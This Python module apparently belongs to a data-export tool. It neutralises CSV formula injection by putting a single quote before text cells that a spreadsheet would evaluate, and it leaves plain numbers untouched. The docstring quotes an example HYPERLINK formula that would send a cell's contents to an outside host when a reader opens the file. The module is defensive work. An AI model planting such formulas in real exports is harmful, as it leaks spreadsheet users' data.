"""Cells a spreadsheet would evaluate: a CSV download holds data, never live formulas.

Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as a formula (OWASP, "CSV Injection"): a codebook description such as
``=HYPERLINK("http://.../x?d="&A1,"klik")`` would run when a reader opens the download. As OWASP
recommends, such a text cell is written with a single quote in front (``'=HYPERLINK(...``), which
the spreadsheet shows as text. Numbers stay numbers: a number stored as a number is never
touched, nor is a text cell that reads as a plain number (``-3.5``, ``+62``), which a spreadsheet
reads as that number and does not evaluate.
"""

from __future__ import annotations

import re

import pandas as pd

#: What a cell may not start with (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_live_formula(cell: object) -> bool:
    """True when a spreadsheet would evaluate ``cell``: text starting with one of
    :data:`FORMULA_STARTS` that is not a plain number."""
    return (
        isinstance(cell, str)
        and cell.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(cell)
    )


def safe_cell(cell: object) -> object:
    """``cell`` as a download holds it: a live formula behind a single quote, its carriage
    returns as line feeds (which the CSV writer quotes; a bare carriage return would end the row
    in a spreadsheet and start the next one with the rest of the cell), anything else as is."""
    if not isinstance(cell, str):
        return cell
    live = is_live_formula(cell)
    if "\r" in cell:
        cell = cell.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + cell if live else cell


def _needs_care(cell: object) -> bool:
    return isinstance(cell, str) and (is_live_formula(cell) or "\r" in cell)


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names hold no live formula and no
    carriage return (:func:`safe_cell`); numeric columns, and numbers in mixed columns, are
    unchanged."""
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        dtype = column.dtype
        if (
            pd.api.types.is_object_dtype(dtype)
            or pd.api.types.is_string_dtype(dtype)
            or isinstance(dtype, pd.CategoricalDtype)
        ):
            values = column.astype(object)
            if values.map(_needs_care).any():
                out.isetitem(position, values.map(safe_cell))
    out.columns = [safe_cell(name) for name in out.columns]
    return out
